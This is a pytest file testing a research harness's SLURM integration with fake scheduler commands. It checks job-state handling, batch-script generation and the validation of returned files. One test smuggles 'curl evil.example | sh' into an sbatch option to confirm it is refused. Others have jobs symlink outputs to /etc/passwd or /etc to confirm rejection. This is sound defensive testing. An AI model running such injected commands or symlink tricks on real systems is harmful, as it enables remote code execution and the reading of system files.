"""SLURM hosts without a cluster: fake sbatch, scontrol, scancel and sinfo on PATH.

The fakes answer as SLURM's commands do (one `scontrol show job -o` line per poll, taken
from a list the test writes); the fake sbatch plays the job itself, writing into the job's
folder what a test wants a job to leave there. What is tested is harness's side: how a
job's state ends its record, what comes back from the job's folder, and what is refused.
"""

from __future__ import annotations

import json
import subprocess
import threading
from dataclasses import replace
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner

from harness import doctor, interrupt
from harness.cli.main import cli
from harness.config import load_config
from harness.errors import ConfigError, HarnessError
from harness.fleet import hosts
from harness.fleet.slurm import across, jobs, scheduler, script
from harness.fleet.slurm.settings import SlurmSettings
from harness.runs import reconcile
from harness.runs.run import RunRequest
from tests.conftest import RUN_RECORD_SCHEMA

PYPROJECT = """\
[project]
name = "tiny"
version = "0.1.0"

[dependency-groups]
experiments = []

[tool.harness.experiments.train]
entry = "tiny_train:fit"
outputs = ["weights.txt"]

[tool.harness.hosts.cluster]
kind = "slurm"
partition = "debug"
time = "00:05:00"
gres = "gpu:1"
"""

FAKES = {
    "sbatch": """#!/bin/sh
echo "$@" >>"$FAKE_SLURM/sbatch-args"
if [ -f "$FAKE_SLURM/refuse" ]; then cat "$FAKE_SLURM/refuse" >&2; exit 1; fi
if [ -x "$FAKE_SLURM/job" ]; then (cd "$(dirname "$2")" && "$FAKE_SLURM/job"); fi
echo "7;cluster"
""",
    "scontrol": """#!/bin/sh
f="$FAKE_SLURM/states"
line=$(head -n 1 "$f")
if [ "$(wc -l <"$f")" -gt 1 ]; then sed -i 1d "$f"; fi
if [ "$line" = unknown ]; then
    echo "slurm_load_jobs error: Invalid job id specified" >&2
    exit 1
fi
echo "$line"
""",
    "scancel": """#!/bin/sh
echo "$@" >>"$FAKE_SLURM/cancelled"
""",
    "sinfo": """#!/bin/sh
cat "$FAKE_SLURM/sinfo"
""",
}

DIGEST = "sha256:" + "ab" * 32
# What a job that made its environment and ran the experiment leaves in its folder.
GOOD_JOB = f"""#!/bin/sh
printf '{{"digest": "{DIGEST}", "python": "3.11", "distributions": []}}' >environment.json
echo "0.5 0.25" >out/weights.txt
echo "ran" >log.txt
"""


def line(state: str, node: str | None = "n1", exit_code: str = "0:0", reason: str = "None") -> str:
    """One line of `scontrol show job -o`, with a work folder holding spaces."""
    shown = node or "(null)"
    return (
        f"JobId=7 JobName=harness-train UserId=me(1000) GroupId=me(1000) JobState={state} "
        f"Reason={reason} Dependency=(null) ExitCode={exit_code} RunTime=00:00:01 "
        f"TimeLimit=00:05:00 Partition=debug NodeList={shown} BatchHost={shown} "
        "WorkDir=/scratch/my project/jobs StdOut=/scratch/my project/job.log Power="
    )


@pytest.fixture
def fake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder the fake commands read their answers from (and write what they were asked)."""
    folder = tmp_path / "fake-slurm"
    binaries = folder / "bin"
    binaries.mkdir(parents=True)
    for name, text in FAKES.items():
        (binaries / name).write_text(text)
        (binaries / name).chmod(0o755)
    monkeypatch.setenv("FAKE_SLURM", str(folder))
    monkeypatch.setenv("PATH", f"{binaries}:/usr/bin:/bin")
    monkeypatch.setattr(scheduler, "_FIRST_POLL_S", 0.01)
    monkeypatch.setattr(scheduler, "_LONGEST_POLL_S", 0.01)
    return folder


def answer(fake: Path, *states: str, job: str | None = GOOD_JOB) -> None:
    """What scontrol says poll after poll (the last one stays), and what the job does."""
    (fake / "states").write_text("".join(f"{state}\n" for state in states))
    if job is not None:
        (fake / "job").write_text(job)
        (fake / "job").chmod(0o755)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "pyproject.toml").write_text(PYPROJECT)
    (root / "constraints.txt").write_text("# no pins\n")
    (root / "tiny_train.py").write_text("def fit(output, seed, inputs):\n    return {}\n")
    return root


def run(project: Path, **changes: object) -> jobs.RunResult:
    config = load_config(project)
    request = RunRequest(config.experiment("train"), seed=0, profile="strict", threads=1)
    cluster = hosts.configured(config)["cluster"]
    return jobs.run_on_slurm(config, request, cluster, **changes)  # type: ignore[arg-type]


# -- what scontrol and sinfo say ------------------------------------------------------------


def test_a_job_line_gives_state_node_exit_code_and_signal() -> None:
    info = scheduler.parse_job(line("CANCELLED by 1000", node="n2", exit_code="0:15"))
    assert (info.state, info.node, info.exit_code, info.signal) == ("CANCELLED", "n2", 0, 15)
    assert info.ended and info.time_limit == "00:05:00" and info.reason is None
    pending = scheduler.parse_job(line("PENDING", node=None, reason="Resources"))
    assert (pending.node, pending.ended, pending.reason) == (None, False, "Resources")


def test_an_answer_that_is_no_job_is_refused() -> None:
    with pytest.raises(scheduler.SchedulerError, match="not a job"):
        scheduler.parse_job("slurm_load_jobs error: Socket timed out")


def test_nodes_are_those_taking_jobs_idle_first(fake: Path) -> None:
    (fake / "sinfo").write_text(
        "n3 alloc\nn1 idle\nn2 down*\nn4 drain\nn1 idle\nn5 mix\nn6 idle*\n"
    )
    assert scheduler.nodes("debug") == ["n1", "n5", "n3"]


def test_sbatch_gives_the_job_id_or_its_refusal(fake: Path, tmp_path: Path) -> None:
    assert scheduler.submit(tmp_path / "job.sh", cwd=tmp_path) == "7"
    (fake / "refuse").write_text("sbatch: error: invalid partition specified: gpu\n")
    with pytest.raises(scheduler.SchedulerError, match="invalid partition specified: gpu"):
        scheduler.submit(tmp_path / "job.sh", cwd=tmp_path)


def test_a_job_scontrol_forgets_is_trouble_not_a_result(fake: Path) -> None:
    answer(fake, line("RUNNING"), "unknown", job=None)
    with pytest.raises(scheduler.SchedulerError, match="no longer known"):
        scheduler.wait("7")


def test_ctrl_c_cancels_the_job(fake: Path) -> None:
    answer(fake, line("RUNNING"), job=None)
    raised: list[BaseException] = []

    def waiting() -> None:
        try:
            scheduler.wait("7")
        except BaseException as error:  # the test looks at what was raised
            raised.append(error)

    thread = threading.Thread(target=waiting)
    thread.start()
    try:
        # Whether the wait registered before Ctrl-C or not, the job is cancelled.
        assert interrupt.stop_everything() in (0, 1)
        thread.join(timeout=10)
    finally:
        interrupt.reset()
    assert not thread.is_alive()
    assert len(raised) == 1 and isinstance(raised[0], KeyboardInterrupt)
    assert (fake / "cancelled").read_text().split() == ["7"]


# -- the batch script ---------------------------------------------------------------------


def _plan(tmp_path: Path, **changes: object) -> script.JobPlan:
    settings = SlurmSettings(partition="gpu", account="lab", time="00:30:00", gres="gpu:a100:1")
    options = {"job_name": "harness-train", "job": tmp_path / "my job", "gpus": True}
    options.update({"timeout_s": None, "node": None, **changes})
    return script.JobPlan(
        job_name="harness-train",
        job=tmp_path / "my job",
        environment=tmp_path / "environments" / "abc",
        uv_cache=tmp_path / 'a "$odd" cache',
        python="3.11",
        uv="uv",
        uv_options=script.uv_options([str(tmp_path / "wheels")], None),
        sbatch=script.sbatch_options(settings, **options),  # type: ignore[arg-type]
        variables={"PYTHONHASHSEED": "0", "ODD": "a 'quoted' $value"},
        passed_through=("PATH", "SLURM_JOB_ID"),
        working_dir=tmp_path / "my job" / "project",
    )


def test_the_script_asks_for_the_hosts_resources_and_checks_every_hash(tmp_path: Path) -> None:
    text = script.render(_plan(tmp_path, node="n2", timeout_s=61))
    for option in ("--partition=gpu", "--account=lab", "--gres=gpu:a100:1", "--nodelist=n2"):
        assert f"#SBATCH {option}\n" in text
    # A run's own timeout wins over the host's time limit, rounded up to whole minutes.
    assert "#SBATCH --time=2\n" in text and "--time=00:30:00" not in text
    assert "#SBATCH --no-requeue\n" in text
    assert f"pip sync --quiet --require-hashes --find-links {tmp_path / 'wheels'}" in text
    assert subprocess.run(["sh", "-n"], input=text, text=True, check=False).returncode == 0
    # uv's cache lies beside the environments unless the job's environment names one.
    cache = next(row for row in text.splitlines() if "UV_CACHE_DIR" in row)
    said = subprocess.run(
        ["sh", "-c", f'{cache}; echo "$UV_CACHE_DIR"'],
        capture_output=True,
        text=True,
        check=True,
        env={"PATH": "/usr/bin:/bin"},
    )
    assert said.stdout == f'{tmp_path}/a "$odd" cache\n'


def test_the_script_passes_values_to_the_runtime_as_they_are(tmp_path: Path) -> None:
    text = script.render(_plan(tmp_path))
    # The shell the job runs in sees the variable exactly as the run sets it.
    variable = next(row for row in text.splitlines() if "ODD=" in row).strip().rstrip("\\")
    shown = subprocess.run(
        ["sh", "-c", f"env -i {variable} /usr/bin/env"], capture_output=True, text=True, check=True
    )
    assert "ODD=a 'quoted' $value" in shown.stdout
    assert '${SLURM_JOB_ID+"SLURM_JOB_ID=$SLURM_JOB_ID"}' in text


def test_without_gres_a_gpu_run_asks_for_one_gpu(tmp_path: Path) -> None:
    options = script.sbatch_options(
        SlurmSettings(), job_name="j", job=tmp_path, gpus=True, timeout_s=None, node=None
    )
    assert "--gpus=1" in options
    assert not any(option.startswith(("--partition", "--time")) for option in options)


# -- a run as a job -----------------------------------------------------------------------


def test_a_job_that_ran_to_its_end_is_a_run_of_the_node_slurm_names(
    fake: Path, project: Path
) -> None:
    answer(fake, line("PENDING", node=None), line("RUNNING", node="n2"), line("COMPLETED", "n2"))
    result = run(project)
    record = result.record
    assert result.status == "succeeded", record
    assert record["host"] == "n2"
    assert record["executor"] == "slurm"
    assert record["slurm"] == {
        "host": "cluster",
        "partition": "debug",
        "job_id": "7",
        "state": "COMPLETED",
        "node": "n2",
        "exit_code": 0,
    }
    assert record["python_environment"]["digest"] == DIGEST
    assert [a["path"] for a in record["artifacts"]] == ["weights.txt"]
    jsonschema.validate(record, RUN_RECORD_SCHEMA)
    assert (result.folder / "artifacts" / "weights.txt").read_text() == "0.5 0.25\n"
    assert (result.folder / "log.txt").read_text() == "ran\n"
    submitted = (result.folder / "job.sh").read_text()
    assert "#SBATCH --partition=debug" in submitted and "--gres" not in submitted
    # The job's folder went once its files were brought back.
    assert list((project / ".harness" / "slurm" / "jobs").iterdir()) == []


@pytest.mark.parametrize(
    ("state", "status", "cause"),
    [
        ("TIMEOUT", "timeout", "its time limit ran out (00:05:00)"),
        ("PREEMPTED", "aborted", "it was pre-empted by another job"),
        ("NODE_FAIL", "failed", "its node failed"),
        ("CANCELLED", "aborted", "it was cancelled"),
        ("OUT_OF_MEMORY", "failed", "it ran out of memory"),
    ],
)
def test_a_job_cut_short_ends_its_record_with_the_state_and_job(
    fake: Path, project: Path, state: str, status: str, cause: str
) -> None:
    answer(fake, line("RUNNING"), line(state, exit_code="0:15"))
    result = run(project)
    assert result.status == status
    assert result.record["error"] == f"SLURM job 7 {state} on n1: {cause}"
    # Whatever it wrote before it was stopped is no artifact.
    assert result.record["artifacts"] == []
    jsonschema.validate(result.record, RUN_RECORD_SCHEMA)


def test_a_job_cancelled_before_it_started_says_so(fake: Path, project: Path) -> None:
    answer(fake, line("PENDING", node=None), line("CANCELLED", node=None), job=None)
    result = run(project)
    assert result.status == "aborted"
    assert result.record["error"] == "SLURM job 7 CANCELLED before it started: it was cancelled"
    assert result.record["host"] == "cluster"
    jsonschema.validate(result.record, RUN_RECORD_SCHEMA)


def test_a_failing_experiment_names_its_error_and_the_job(fake: Path, project: Path) -> None:
    failing = GOOD_JOB + (
        'printf \'{"error": "ValueError: the data is not there"}\' >meta/runtime.json\n'
    )
    answer(fake, line("FAILED", exit_code="1:0"), job=failing)
    result = run(project)
    assert result.status == "failed"
    assert result.record["error"] == (
        "ValueError: the data is not there (SLURM job 7 FAILED on n1)"
    )


def test_a_job_that_made_no_environment_says_so(fake: Path, project: Path) -> None:
    uv_says = "error: Failed to download `numpy==2.4.6`\n  cause: Hash mismatch for `numpy`\n"
    answer(fake, line("FAILED", exit_code="2:0"), job=f"#!/bin/sh\nprintf '{uv_says}' >job.log\n")
    result = run(project)
    assert result.status == "failed"
    assert result.record["error"] == (
        "SLURM job 7 FAILED on n1: the job could not make its Python environment from "
        "constraints.txt: error: Failed to download `numpy==2.4.6` cause: Hash mismatch for "
        "`numpy` (read job.log in the run's folder)"
    )
    assert (result.folder / "job.log").read_text() == uv_says


@pytest.mark.parametrize(
    ("job", "refused"),
    [
        # A link among the outputs would make the record vouch for a file of this machine.
        (GOOD_JOB.replace('echo "0.5 0.25" >out/weights.txt', "ln -s /etc/passwd out/weights.txt"),
         "symbolic link"),
        # The job's outputs folder replaced by a link elsewhere.
        (GOOD_JOB.replace('echo "0.5 0.25" >out/weights.txt', "rmdir out && ln -s /etc out"),
         "not a folder"),
        # A description of the environment that is none.
        ("#!/bin/sh\necho '[1, 2]' >environment.json\n",
         "not a description of an environment"),
        # The environment's description through a link.
        ("#!/bin/sh\nln -s /etc/hostname environment.json\n", "environment.json"),
    ],
)  # fmt: skip
def test_what_a_job_leaves_is_checked_before_it_counts(
    fake: Path, project: Path, job: str, refused: str
) -> None:
    answer(fake, line("COMPLETED"), job=job)
    result = run(project)
    assert result.status == "failed"
    assert refused in result.record["error"]
    assert not (result.folder / "artifacts" / "weights.txt").exists()


def test_a_job_may_bring_back_only_so_much(
    fake: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jobs, "MAX_BYTES", 4)
    answer(fake, line("COMPLETED"))
    result = run(project)
    assert result.status == "failed"
    assert "more than the 4 a run may bring back" in result.record["error"]


def test_sbatch_refusing_the_job_ends_the_record(fake: Path, project: Path) -> None:
    (fake / "refuse").write_text("sbatch: error: Invalid account or account/partition\n")
    with pytest.raises(scheduler.SchedulerError) as raised:
        run(project)
    folder = project / ".harness" / "runs" / str(raised.value.run_id)
    record = json.loads((folder / "record.json").read_text())
    assert record["status"] == "failed"
    assert "Invalid account" in record["error"]


# -- configuration ------------------------------------------------------------------------


def test_a_slurm_host_is_no_engine_and_runs_alone(project: Path) -> None:
    config = load_config(project)
    cluster = hosts.configured(config)["cluster"]
    assert cluster.slurm is not None and cluster.gpus is True
    assert cluster.slurm.folder(project) == project / ".harness" / "slurm"
    with pytest.raises(ConfigError, match="SLURM cluster"):
        cluster.connect()
    with pytest.raises(ConfigError, match="never beside other hosts"):
        across.refuse_mixed(hosts.resolve(config, ["local,cluster"]))
    assert across.refuse_mixed(hosts.resolve(config, ["cluster"])) == cluster


def test_a_run_that_needs_a_container_is_refused(fake: Path, project: Path) -> None:
    config = load_config(project)
    request = RunRequest(config.experiment("train"), seed=0, profile="strict", threads=1, cpus=1.0)
    with pytest.raises(ConfigError, match="--cpus"):
        jobs.run_on_slurm(config, request, hosts.configured(config)["cluster"])


def test_a_gpu_run_needs_the_cuda_variant(fake: Path, project: Path) -> None:
    config = load_config(project)
    request = RunRequest(config.experiment("train"), seed=0, profile="strict", threads=1, gpus=True)
    with pytest.raises(ConfigError, match="needs a CUDA variant"):
        jobs.run_on_slurm(config, request, hosts.configured(config)["cluster"])


def test_the_job_of_a_killed_harness_is_cancelled_when_its_record_ends(
    fake: Path, project: Path
) -> None:
    answer(fake, line("COMPLETED"))
    result = run(project)
    # As a harness killed while it waited leaves it: running, its process gone.
    record = dict(result.record, status="running")
    record["harness_process"] = dict(record["harness_process"], pid=2**22 + 1, started=1)
    (result.folder / "record.json").write_text(json.dumps(record))
    answer(fake, line("RUNNING"), job=None)
    (told,) = reconcile.end_stale(project)
    assert told.endswith("its SLURM job 7 was still RUNNING and was cancelled")
    assert (fake / "cancelled").read_text().split() == ["7"]
    assert json.loads((result.folder / "record.json").read_text())["status"] == "lost"


def test_of_a_long_log_only_the_tail_comes_back(
    fake: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jobs, "LOG_LIMIT", 8)
    answer(fake, line("COMPLETED"), job=GOOD_JOB.replace('echo "ran"', 'echo "ran and ended"'))
    result = run(project)
    assert result.status == "succeeded"
    assert (result.folder / "log.txt").read_text() == "d ended\n"


def test_a_log_that_is_a_pipe_is_refused(fake: Path, project: Path) -> None:
    answer(fake, line("COMPLETED"), job=GOOD_JOB.replace('echo "ran" >log.txt', "mkfifo log.txt"))
    result = run(project)
    assert result.status == "failed"
    assert "log.txt is not a regular file" in result.record["error"]


def test_verify_takes_as_many_nodes_as_the_host_says(fake: Path, project: Path) -> None:
    cluster = hosts.configured(load_config(project))["cluster"]
    (fake / "sinfo").write_text("n1 alloc\nn2 idle\nn3 idle\n")
    assert across.choose_nodes(cluster) == ["n2", "n3"]
    (fake / "sinfo").write_text("n1 down*\n")
    with pytest.raises(scheduler.SchedulerError, match="no node of partition debug"):
        across.choose_nodes(cluster)


def test_a_run_slurm_put_on_another_node_counts_for_none(fake: Path, project: Path) -> None:
    config = load_config(project)
    cluster = hosts.configured(config)["cluster"]
    answer(fake, line("COMPLETED", node="n2"))
    request = RunRequest(config.experiment("train"), seed=0, profile="strict", threads=1)
    with pytest.raises(HarnessError, match="asked for node n1 but SLURM ran it on n2"):
        across.on_node(config, cluster, "n1", None)(request, lambda _: None)
    (submitted,) = (project / ".harness" / "runs").glob("*/job.sh")
    assert "#SBATCH --nodelist=n1\n" in submitted.read_text()


def test_doctor_says_which_nodes_take_jobs(fake: Path, project: Path) -> None:
    (fake / "sinfo").write_text("n1 idle\nn2 down*\n")
    (check,) = doctor._host_checks(load_config(project))
    assert (check.name, check.ok) == ("host cluster", True)
    assert check.detail == "SLURM: 1 node(s) of partition debug take jobs (n1)"


def test_an_option_that_would_add_lines_to_the_script_is_refused(tmp_path: Path) -> None:
    injected = replace(_plan(tmp_path), sbatch=("--mem=1G\ncurl evil.example | sh",))
    with pytest.raises(ConfigError, match="cannot be written into a batch script"):
        script.render(injected)
    # Spaces in a folder's name are quoted, as sbatch reads them.
    text = script.render(_plan(tmp_path))
    assert f'#SBATCH --chdir="{tmp_path}/my job"\n' in text


def test_run_and_runs_show_speak_of_the_job(fake: Path, project: Path) -> None:
    answer(fake, line("RUNNING", node="n2"), line("COMPLETED", node="n2"))
    ran = CliRunner().invoke(cli, ["--project", str(project), "run", "--hosts", "cluster"])
    assert ran.exit_code == 0, ran.output
    (folder,) = (project / ".harness" / "runs").iterdir()
    run_id = folder.name
    shown = CliRunner().invoke(cli, ["--project", str(project), "runs", "show", run_id])
    assert shown.exit_code == 0, shown.output
    assert "slurm job  7 COMPLETED on n2" in shown.output
    assert "python     " in shown.output and DIGEST in shown.output
    mixed = CliRunner().invoke(cli, ["--project", str(project), "run", "--hosts", "local,cluster"])
    assert mixed.exit_code == 2
    assert "never beside other hosts" in mixed.output
